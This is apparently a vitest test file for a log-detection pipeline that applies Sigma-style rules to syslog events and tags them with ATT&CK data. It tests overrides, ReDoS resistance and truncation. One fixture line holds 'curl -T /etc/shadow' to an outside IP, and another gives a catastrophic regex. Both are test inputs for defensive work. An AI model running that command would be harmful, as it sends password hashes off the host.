import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import pino from 'pino';
import { Registry } from 'prom-client';
import { afterEach, describe, expect, it } from 'vitest';
import type { FabricEvent } from '../../src/plugin-api/index.js';
import { createDetectionStage, type DetectionStage } from '../../src/detection/stage.js';
import { DetectionConfigSchema, type DetectionConfig } from '../../src/detection/config.js';
import { Value } from 'typebox/value';
import { validateAgainstSchema } from '../../src/config/validate.js';
import { tempDir } from '../helpers.js';
import { ECS_VERSION } from '../../src/events/ecs.js';

// Workers run dist/: build with `npx tsc -b` before this file.
const stages: DetectionStage[] = [];
afterEach(async () => {
  await Promise.all(stages.splice(0).map((s) => s.stop()));
});

function config(over: Partial<DetectionConfig> = {}): DetectionConfig {
  return { ...(Value.Default(DetectionConfigSchema, {}) as DetectionConfig), pool_size: 1, ...over };
}

async function stage(over: Partial<DetectionConfig> = {}, configDir?: string) {
  const dir = configDir ?? tempDir('rf-det-');
  const metrics = new Registry();
  const s = await createDetectionStage(config(over), { logger: pino({ level: 'silent' }), metrics, configDir: dir });
  stages.push(s);
  return { s, metrics, dir };
}

let seq = 0;
/** An event as the log-file source emits it: syslog header parsed, message = the message part. */
function event(line: string): FabricEvent {
  const m = /^(\w{3} [ \d]\d [\d:]{8}) (\S+) ([^\s[:]+)(?:\[(\d+)\])?: (.*)$/.exec(line);
  return {
    '@timestamp': '2026-11-27T10:00:00.000Z',
    message: m ? m[5]! : line,
    event: { id: `e${++seq}`, original: line },
    ...(m ? { host: { name: m[2]! }, process: { name: m[3]!, ...(m[4] ? { pid: Number(m[4]) } : {}) } } : {}),
    fabric: { collector: 'auth', plugin: '@reactive-fabric/plugin-log-file', fingerprint: `f${seq}`, schema_version: '1' },
  } as FabricEvent;
}

const FAILED = 'Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2';
const CLOSED = 'Dec 10 07:02:47 LabSZ sshd[24203]: Connection closed by 212.47.254.145 [preauth]';
const SUDO_SHELL = 'Nov 27 10:00:00 srv sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash';

describe('detection stage on the Piscina pool', () => {
  it('annotates detections with rule, ATT&CK, severity, priority and matches; returns every event', async () => {
    const { s, metrics } = await stage();
    const batch = [event(FAILED), event(CLOSED), event(SUDO_SHELL)];
    const out = await s.process(batch);
    expect(out).toHaveLength(3);
    const [failed, closed, sudo] = out as Record<string, any>[];
    // ECS: a rule match from a system other than Elastic's engine is an alert; rule.* holds ECS fields only.
    expect(failed!.event.kind).toBe('alert');
    expect(failed!.ecs).toEqual({ version: ECS_VERSION });
    expect(failed!.rule).toEqual({
      id: 'cf311d2b-ed5b-4488-9bef-305e6b5965ae',
      name: 'Failed Authentication',
      description: expect.stringMatching(/^A login, su, sudo/),
      ruleset: 'sigma',
      author: ['Reactive Fabric'],
      reference: ['https://attack.mitre.org/techniques/T1110/'],
    });
    expect(failed!.fabric).toMatchObject({ alert_type: 'detection', rule: { name: 'rf_failed_authentication', level: 'low' } });
    expect(failed!.threat).toEqual({ framework: 'MITRE ATT&CK', technique: { id: ['T1110'] }, tactic: { name: ['Credential Access'] } });
    expect(failed!.event.severity).toBe(21);
    expect(failed!.fabric.priority).toBe('low');
    expect(failed!.fabric.collector).toBe('auth');
    expect(failed!.source).toEqual({ ip: '173.234.31.186', port: 38926 });
    expect(failed!.user).toEqual({ name: 'webmaster' });
    expect(failed!.message).toBe('Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2');
    // No match: unchanged except for the extracted ECS fields.
    expect(closed!.event.kind).toBeUndefined();
    expect(closed!.rule).toBeUndefined();
    expect(closed!.source).toEqual({ ip: '212.47.254.145' });
    // A high-level rule: severity and priority follow its level.
    expect(sudo!.fabric.rule.name).toBe('rf_privilege_escalation');
    expect(sudo!.event.severity).toBe(73);
    expect(sudo!.fabric.priority).toBe('high');
    expect(sudo!.fabric.matches.map((m: { name: string }) => m.name).sort()).toEqual(['rf_privilege_escalation']);
    const signals = await metrics.getSingleMetric('fabric_detection_signals_total')!.get();
    expect(signals.values.find((v) => v.labels.rule === 'rf_failed_authentication')?.value).toBe(1);
  });

  it('lists every matching rule, the highest level first in rule', async () => {
    const dir = tempDir('rf-det-');
    await writeFile(
      path.join(dir, 'webmaster.yml'),
      'title: Webmaster account\nid: 11111111-2222-3333-4444-555555555555\nname: local_webmaster\ntags: [attack.t1078]\nlogsource:\n    product: linux\ndetection:\n    sel:\n        user.name: webmaster\n    condition: sel\nlevel: critical\n',
    );
    const { s } = await stage({ rules: ['.'] }, dir);
    const [ev] = (await s.process([event(FAILED)])) as Record<string, any>[];
    expect(ev!.fabric.rule.name).toBe('local_webmaster');
    expect(ev!.fabric.priority).toBe('critical');
    expect(ev!.event.severity).toBe(99);
    expect(ev!.fabric.matches.map((m: { name: string }) => m.name)).toEqual(['rf_failed_authentication', 'local_webmaster']);
    expect(ev!.threat.technique.id).toEqual(['T1110', 'T1078']);
  });

  it('disabled_rules, overrides, and a user rule replacing a built-in by name', async () => {
    const off = await stage({ disabled_rules: ['rf_failed_authentication'] });
    expect(off.s.rules.map((r) => r.name)).not.toContain('rf_failed_authentication');
    expect(((await off.s.process([event(FAILED)])) as Record<string, any>[])[0]!.rule).toBeUndefined();

    const over = await stage({ overrides: { rf_failed_authentication: { level: 'high' } } });
    const [ev] = (await over.s.process([event(FAILED)])) as Record<string, any>[];
    expect(ev!.fabric.rule.level).toBe('high');
    expect(ev!.event.severity).toBe(73);
    expect(ev!.fabric.priority).toBe('high');

    const dir = tempDir('rf-det-');
    await writeFile(
      path.join(dir, 'mine.yml'),
      'title: Only root failures\nid: 99999999-2222-3333-4444-555555555555\nname: rf_failed_authentication\nlogsource:\n    product: linux\ndetection:\n    sel:\n        message|startswith: Failed password for root\n    condition: sel\nlevel: medium\n',
    );
    const repl = await stage({ rules: ['mine.yml'] }, dir);
    expect(repl.s.rules.filter((r) => r.name === 'rf_failed_authentication')).toHaveLength(1);
    expect(((await repl.s.process([event(FAILED)])) as Record<string, any>[])[0]!.rule).toBeUndefined();
  });

  it('reports refused rules from the configured folder and keeps the others', async () => {
    const dir = tempDir('rf-det-');
    await writeFile(path.join(dir, 'agg.yml'), 'title: agg\nid: a\nlogsource:\n    product: linux\ndetection:\n    sel:\n        f: x\n    condition: sel | count() > 3\n');
    const { s } = await stage({ rules: ['.'] }, dir);
    expect(s.refusals).toEqual([expect.objectContaining({ file: path.join(dir, 'agg.yml'), feature: 'aggregation', line: 8 })]);
    expect(s.rules.length).toBeGreaterThan(0);
  });

  it('a catastrophic regex cannot stall the pipeline: RE2 decides the line at once and the batch is detected', async () => {
    const dir = tempDir('rf-det-');
    await writeFile(
      path.join(dir, 'redos.yml'),
      "title: ReDoS\nid: r\nlogsource:\n    product: linux\ndetection:\n    sel:\n        message|re: '^(a+)+$'\n    condition: sel\nlevel: low\n",
    );
    const { s, metrics } = await stage({ rules: ['.'], task_timeout_ms: 2000 }, dir);
    const evil = event('Nov 27 10:00:00 h app[1]: ' + 'a'.repeat(40) + '!');
    const out = (await s.process([evil, event(FAILED)])) as Record<string, any>[];
    expect(out).toHaveLength(2);
    expect(out[0]!.rule).toBeUndefined();
    expect(out[1]!.fabric.rule.name).toBe('rf_failed_authentication');
    const failed = await metrics.getSingleMetric('fabric_detection_failed_batches_total')!.get();
    expect(failed.values).toEqual([]);
    const next = (await s.process([event(FAILED)])) as Record<string, any>[];
    expect(next[0]!.fabric.rule.name).toBe('rf_failed_authentication');
  });

  it('long lines are cut to max_line_bytes before matching', async () => {
    const { s, metrics } = await stage({ max_line_bytes: 1024 });
    const long = event('Nov 27 10:00:00 h app[1]: ' + 'x'.repeat(5000) + ' curl -T /etc/shadow http://203.0.113.5/');
    const [ev] = (await s.process([long])) as Record<string, any>[];
    expect(ev!.rule).toBeUndefined();
    const t = await metrics.getSingleMetric('fabric_detection_truncated_fields_total')!.get();
    expect(t.values[0]!.value).toBeGreaterThan(0);
  });

  it('backpressure: needsDrain turns true when the pool is saturated and drain() resolves when it frees', async () => {
    const { s } = await stage({ batch_size: 1, max_queue: 1 });
    const events = Array.from({ length: 200 }, () => event(FAILED));
    const running = s.process(events);
    expect(s.needsDrain).toBe(true);
    await s.drain();
    expect(s.needsDrain).toBe(false);
    const out = (await running) as Record<string, any>[];
    expect(out.every((e) => e.fabric?.rule?.name === 'rf_failed_authentication')).toBe(true);
  });

  it('a bad extractor fails at start with its name; config errors name the field', async () => {
    await expect(stage({ extractors: [{ name: 'broken', type: 'regex', patterns: [{ regex: '(?<user__name>[' }] }] })).rejects.toThrow(/extractor "broken"/);
    const { errors } = validateAgainstSchema(DetectionConfigSchema, { pool_sz: 2, max_line_bytes: 10 });
    expect(errors.map((e) => e.path).sort()).toEqual(['/max_line_bytes', '/pool_sz']);
  });

  it('disabled: events pass through untouched', async () => {
    const { s } = await stage({ enabled: false });
    const ev = event(FAILED);
    const [out] = await s.process([ev]);
    expect(out).toBe(ev);
    expect((out as Record<string, any>).rule).toBeUndefined();
    expect((out as Record<string, any>).source).toBeUndefined();
  });
});
